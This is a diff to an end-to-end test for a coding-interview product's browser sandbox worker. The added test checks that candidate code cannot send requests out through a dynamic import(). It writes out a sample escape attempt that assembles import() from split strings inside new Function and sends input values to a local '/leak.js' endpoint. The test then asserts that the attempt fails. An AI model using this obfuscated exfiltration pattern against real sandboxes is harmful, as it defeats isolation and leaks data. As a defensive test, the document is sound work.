@@ -2,9 +2,10 @@
  * Running a coding answer's examples in the browser's sandbox worker (worker/sandbox), as the guest does it:
  * verdicts for right and wrong code, TypeScript stripped, a syntax error explained, an endless loop stopped at the
  * time limit while the page stays usable (Stop works mid-run), and candidate code that finds the network, storage
- * and the reply channel gone. Then the staff side: the interviewer's device runs the submitted code against the
+ * and the reply channel gone, and cannot send a request anywhere even through import(). Then the staff side: the interviewer's device runs the submitted code against the
  * hidden tests and shows the explained result; changed code is run again.
  */
+import http from 'node:http';
 import { codingScoreKey, readScore } from '../../src/sync/answer-results';
 import { test, expect, codingQuestion, consentAndStart, inviteLink, openInvite, passTechCheck, planOf, publishAndInvite, serverSees } from './pages/guest-pages';
 
@@ -60,6 +61,24 @@ test('the guest runs the examples of a coding task in the sandbox', async ({ gue
   );
   await runButton.click();
   await expect(page.getByTestId('test-verdict')).toContainText(`returned ${JSON.stringify(Array(9).fill('undefinedundefined').join(','))}`);
+
+  // import() cannot be taken away like fetch; the worker's own content security policy stops it sending anything.
+  const requests: string[] = [];
+  const outside = http.createServer((req, res) => {
+    requests.push(req.url ?? '');
+    res.end('export default 1;');
+  });
+  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
+  try {
+    const url = `http://127.0.0.1:${(outside.address() as { port: number }).port}/leak.js?args=`;
+    await code.fill(`async function sum(values: number[]) {\n  const load = new Function('u', 'return imp' + 'ort(u)');\n  try { await load(${JSON.stringify(url)} + values.join('-')); return 'sent'; } catch (e) { return String(e); }\n}\n`);
+    await runButton.click();
+    await expect(page.getByTestId('test-verdict')).toContainText('Failed to fetch dynamically imported module');
+    // The verdict arrives after the attempt failed: a request that had left would be here by now.
+    expect(requests).toEqual([]);
+  } finally {
+    outside.close();
+  }
 
   // Running changes nothing that is submitted; submitting still works.
   await code.fill('function sum(values: number[]): number {\n  return values.reduce((a, b) => a + b, 0);\n}\n');
